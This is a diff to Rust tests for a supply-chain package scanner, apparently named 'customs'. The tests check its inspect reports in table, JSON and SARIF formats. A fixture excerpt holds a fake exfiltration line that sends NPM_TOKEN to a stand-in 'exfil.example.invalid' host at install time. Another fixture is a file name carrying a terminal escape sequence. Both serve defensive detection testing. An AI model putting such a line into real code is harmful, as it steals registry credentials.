@@ -101,6 +101,7 @@ fn realistic() -> (Vec<Finding>, Inventory, ScanSummary) {
             dependency_path: steps(&["clap@2.34.0", "ansi_term@0.12.1"]),
             ignored: None,
             typosquat: None,
+            inspection: None,
         },
         Finding {
             code: Code::Vulnerability,
@@ -125,6 +126,7 @@ fn realistic() -> (Vec<Finding>, Inventory, ScanSummary) {
             dependency_path: Vec::new(),
             ignored: None,
             typosquat: None,
+            inspection: None,
         },
         Finding {
             code: Code::IgnoreUnused,
@@ -138,6 +140,7 @@ fn realistic() -> (Vec<Finding>, Inventory, ScanSummary) {
             dependency_path: Vec::new(),
             ignored: None,
             typosquat: None,
+            inspection: None,
         },
         Finding {
             code: Code::Vulnerability,
@@ -167,6 +170,7 @@ fn realistic() -> (Vec<Finding>, Inventory, ScanSummary) {
             ]),
             ignored: None,
             typosquat: None,
+            inspection: None,
         },
         Finding {
             code: Code::Vulnerability,
@@ -186,6 +190,7 @@ fn realistic() -> (Vec<Finding>, Inventory, ScanSummary) {
             dependency_path: steps(&["mkdirp@0.5.5", "minimist@1.2.5"]),
             ignored: Some("only the build scripts use it, never on user input".into()),
             typosquat: None,
+            inspection: None,
         },
         Finding {
             code: Code::Malicious,
@@ -215,6 +220,7 @@ fn realistic() -> (Vec<Finding>, Inventory, ScanSummary) {
             dependency_path: steps(&["event-stream@3.3.6", "flatmap-stream@0.1.1"]),
             ignored: None,
             typosquat: None,
+            inspection: None,
         },
         Finding {
             code: Code::Vulnerability,
@@ -235,6 +241,7 @@ fn realistic() -> (Vec<Finding>, Inventory, ScanSummary) {
             dependency_path: steps(&["chrono@0.4.19", "time@0.1.43"]),
             ignored: None,
             typosquat: None,
+            inspection: None,
         },
         Finding {
             code: Code::Vulnerability,
@@ -261,6 +268,7 @@ fn realistic() -> (Vec<Finding>, Inventory, ScanSummary) {
             dependency_path: Vec::new(),
             ignored: None,
             typosquat: None,
+            inspection: None,
         },
     ];
     let inventory = Inventory {
@@ -544,6 +552,7 @@ fn hostile() -> (Vec<Finding>, Inventory, ScanSummary) {
         dependency_path: steps(&["a|b@1", "<c>@2", evil]),
         ignored: None,
         typosquat: None,
+        inspection: None,
     }];
     // The same, as a warning whose advisory links somewhere, and accepted with a hostile reason.
     let mut linked = findings[0].clone();
@@ -756,4 +765,129 @@ fn write_errors_are_returned() {
             .expect_err("the writer cannot write");
         assert_eq!(error.kind(), std::io::ErrorKind::BrokenPipe, "{name}");
     }
+}
+
+/// `customs inspect` reports: a malicious artifact with hits (a hostile file name among them),
+/// a clean one, one that did not match its digest, and a target that could not be inspected.
+fn inspected() -> Vec<customs_report::inspect::InspectedTarget> {
+    use customs_core::{Ecosystem, FindingHit};
+    use customs_report::inspect::{InspectedArtifact, InspectedTarget};
+    let hit = |file: &str, line: u32, rule: &str, category: &str, reach: Option<&str>| FindingHit {
+        rule: rule.into(),
+        category: category.into(),
+        file: file.into(),
+        line,
+        excerpt: "fetch(`https://exfil.example.invalid/${process.env.NPM_TOKEN}`)".into(),
+        reachable_from: reach.map(Into::into),
+    };
+    vec![
+        InspectedTarget {
+            target: "npm:evil@1.0.0".into(),
+            ecosystem: Some(Ecosystem::Npm),
+            artifacts: vec![InspectedArtifact {
+                file_name: "evil-1.0.0.tgz".into(),
+                sha256: Some("ab".repeat(32)),
+                verified_by: "registry sha512".into(),
+                verdict: "malicious".into(),
+                reasons: vec![
+                    "M1 a threat runs at install: credential-harvest (install.js:3)".into(),
+                ],
+                hits: vec![
+                    hit(
+                        "install.js",
+                        3,
+                        "credential-harvest",
+                        "threat",
+                        Some("install"),
+                    ),
+                    hit(
+                        "lib/odd name\u{1b}[31m.js",
+                        0,
+                        "executable-file",
+                        "capability",
+                        None,
+                    ),
+                ],
+            }],
+            error: None,
+        },
+        InspectedTarget {
+            target: "pypi:six@1.16.0".into(),
+            ecosystem: Some(Ecosystem::PyPI),
+            artifacts: vec![
+                InspectedArtifact {
+                    file_name: "six-1.16.0-py2.py3-none-any.whl".into(),
+                    sha256: Some("cd".repeat(32)),
+                    verified_by: "registry sha256".into(),
+                    verdict: "clean".into(),
+                    reasons: Vec::new(),
+                    hits: Vec::new(),
+                },
+                InspectedArtifact {
+                    file_name: "six-1.16.0.tar.gz".into(),
+                    sha256: None,
+                    verified_by: "expected sha256:00, got sha256:11".into(),
+                    verdict: "integrity-mismatch".into(),
+                    reasons: vec!["https://files.example/six-1.16.0.tar.gz does not match".into()],
+                    hits: Vec::new(),
+                },
+            ],
+            error: None,
+        },
+        InspectedTarget {
+            target: "crates:gone@9.9.9".into(),
+            ecosystem: Some(Ecosystem::CratesIo),
+            artifacts: Vec::new(),
+            error: Some("the registry has no such version".into()),
+        },
+    ]
+}
+
+#[test]
+fn inspect_reports_in_every_format() {
+    use customs_report::inspect::{exit_code, write_json, write_sarif, write_table};
+    let targets = inspected();
+    assert_eq!(exit_code(&targets), 2, "a target could not be inspected");
+    assert_eq!(
+        exit_code(&targets[..2]),
+        1,
+        "malicious, and a digest mismatch"
+    );
+    assert_eq!(exit_code(&targets[1..2][..0]), 0);
+
+    let mut table = Vec::new();
+    write_table(&targets, &mut table).unwrap();
+    let table = String::from_utf8(table).unwrap();
+    assert!(
+        !table.contains('\u{1b}'),
+        "control characters are escaped: {table}"
+    );
+    insta::assert_snapshot!("inspect_table", table);
+
+    let mut json = Vec::new();
+    write_json(&targets, &mut json).unwrap();
+    let json: serde_json::Value = serde_json::from_slice(&json).unwrap();
+    assert_eq!(json["schema_version"], 1);
+    assert_eq!(json["targets"][0]["artifacts"][0]["verdict"], "malicious");
+    assert_eq!(
+        json["targets"][0]["artifacts"][0]["hits"][0]["reachable_from"],
+        "install"
+    );
+    assert_eq!(
+        json["targets"][2]["error"],
+        "the registry has no such version"
+    );
+
+    let mut sarif = Vec::new();
+    write_sarif(&targets, &mut sarif).unwrap();
+    let sarif = String::from_utf8(sarif).unwrap();
+    assert_eq!(validate_sarif(&sarif), Vec::<String>::new(), "{sarif}");
+    let document: serde_json::Value = serde_json::from_str(&sarif).unwrap();
+    let results = document["runs"][0]["results"].as_array().unwrap();
+    assert_eq!(results.len(), 3, "two hits, and the mismatch: {sarif}");
+    assert_eq!(
+        results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
+        "evil-1.0.0.tgz/install.js"
+    );
+    assert_eq!(results[2]["ruleId"], "integrity-mismatch");
 }
